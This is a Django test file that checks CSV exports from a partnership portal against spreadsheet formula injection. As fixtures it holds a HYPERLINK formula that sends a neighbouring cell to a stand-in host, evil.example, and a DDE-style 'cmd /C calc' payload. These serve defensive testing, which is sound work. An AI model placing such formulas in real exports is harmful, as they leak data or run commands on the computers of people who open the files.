"""Every CSV the portal writes neutralises cells a spreadsheet would run as a formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from discussions import services
from mountainpartnership.spreadsheets import cell
from tests.discussions.conftest import old_account, representative
from tests.factories import AreaFactory, MemberFactory, consultation_for

pytestmark = pytest.mark.django_db

# The example: opened in a spreadsheet, it sends the cell beside it to another site.
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Annex")'


def cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
    return [value for row in rows for value in row]


def assert_neutralised(values, text=HYPERLINK):
    assert "'" + text in values
    assert text not in values


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_start_a_formula_is_quoted(start):
    assert cell(f"{start}1+1") == f"'{start}1+1"


def test_other_cells_pass_unchanged():
    assert cell("Government of Peru") == "Government of Peru"
    assert cell("a=b") == "a=b"
    assert cell(-5) == -5  # a negative number is a number, not a formula
    assert cell(None) is None
    assert cell("") == ""


def test_the_public_directory_download(client):
    MemberFactory(name_en=HYPERLINK)
    assert_neutralised(cells(client.get("/en/members/export.csv")))


def test_the_admin_member_export(secretariat_client):
    member = MemberFactory(name_en=HYPERLINK)
    response = secretariat_client.post(
        reverse("admin:members_member_changelist"),
        {"action": "export_csv", "_selected_action": [member.pk]},
    )
    assert_neutralised(cells(response))


def test_the_open_data_download(client):
    MemberFactory(name_en=HYPERLINK, type="igo")
    assert_neutralised(cells(client.get("/en/data/members.csv?type=igo")))


def test_the_report_to_the_csd(secretariat_client):
    AreaFactory(name_en="@SUM(1+1)*cmd|' /C calc'!A0")
    today = timezone.localdate().isoformat()
    response = secretariat_client.get(f"/en/dashboard/report/?date={today}&format=csv")
    assert_neutralised(cells(response), "@SUM(1+1)*cmd|' /C calc'!A0")


def test_the_contributions_of_a_consultation(secretariat_client, secretariat_user):
    consultation = consultation_for("open", secretariat_user)
    author = old_account(representative())
    services.reply_post(topic=consultation.topic, user=author, body=HYPERLINK, language="en")
    response = secretariat_client.get(f"/en/consultations/{consultation.slug}/contributions.csv")
    values = cells(response)
    assert_neutralised(values)
    assert response["Content-Disposition"].startswith("attachment")


def test_every_csv_is_written_through_the_one_helper():
    """A new export that builds its own csv.writer would skip the neutralising: none may."""
    root = Path(__file__).resolve().parents[2]
    helper = root / "mountainpartnership" / "spreadsheets.py"
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(root))
        for folder in ["mountainpartnership", "members", "activities", "newsletter"]
        + ["discussions", "insight"]
        for path in (root / folder).rglob("*.py")
        if path != helper and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
